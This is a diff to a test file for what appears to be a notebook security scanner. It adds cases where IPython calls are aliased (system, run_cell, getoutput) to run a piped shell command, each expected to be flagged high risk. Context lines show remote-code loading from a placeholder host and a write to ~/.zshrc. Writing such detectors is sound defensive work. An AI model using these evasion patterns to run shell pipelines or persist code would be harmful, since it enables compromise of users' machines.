@@ -21,6 +21,13 @@ describe('a magic that is called by name', () => {
     [`get_ipython().magic("sx ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     [`ip = get_ipython()\nip.magic("%system ${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     [`ip = get_ipython()\nip.system("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`run = get_ipython().system\nrun("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [`ip = get_ipython()\nrun = ip.run_cell\nrun("!${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
+    [
+      `from IPython import get_ipython\nrun = get_ipython().getoutput\nrun("${PIPED}")`,
+      'HIGH CODE-PIPE-SHELL',
+    ],
+    [`from IPython.utils.process import system\nsystem("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     [`get_ipython().run_cell_magic("bash", "", "${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     ['get_ipython().magic("run https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
     ['get_ipython().run_cell_magic("writefile", "~/.zshrc", "x=1")', 'HIGH NOTEBOOK-STARTUP-WRITE'],
